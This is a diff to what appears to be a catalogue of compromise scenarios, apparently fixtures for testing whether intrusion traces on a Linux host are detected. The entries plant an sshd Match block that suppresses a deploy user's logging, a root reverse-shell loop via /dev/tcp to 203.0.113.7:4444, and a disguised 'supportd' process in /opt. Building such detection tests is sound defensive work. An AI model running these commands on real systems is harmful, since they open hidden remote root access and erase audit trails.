@@ -46,3 +46,17 @@ member("after-sshd-loglevel-error-in-match", "mechanisms", r"""
 printf '\nMatch User %s\n  LogLevel ERROR\n' "$DEPU" >> /etc/ssh/sshd_config
 """, r"""/usr/sbin/sshd -T -C user=$DEPU,host=x,addr=192.0.2.1 2>/dev/null | grep -qi '^loglevel error'""",
        "the deploy login's sessions logged at ERROR only (a Match block): its logins, keys and refusals leave no trace")
+
+member("after-root-inline-loop-left", "runs", r"""
+setsid nohup /bin/sh -c 'while :; do exec 3<>/dev/tcp/203.0.113.7/4444 2>/dev/null && /bin/sh -i <&3 >&3 2>&3; sleep 30; done' >/dev/null 2>&1 < /dev/null &
+setsid nohup /bin/bash -c 'while :; do (exec 3<>/dev/tcp/203.0.113.7/4444) 2>/dev/null; sleep 30; done' >/dev/null 2>&1 < /dev/null &
+sleep 1
+""", r"""pgrep -u root -f '203.0.113.7/4444' >/dev/null""",
+       "a root shell loop with its code on its command line, left with setsid nohup, connecting out")
+
+member("after-root-opt-binary-left", "runs", r"""
+install -d /opt/support; cp /usr/bin/sleep /opt/support/supportd
+setsid nohup /opt/support/supportd 86400 >/dev/null 2>&1 < /dev/null &
+sleep 1
+""", r"""pgrep -u root -f /opt/support/supportd >/dev/null""",
+       "a root 'support' daemon from /opt left running under pid 1 (a copy of a program no package ships there)")
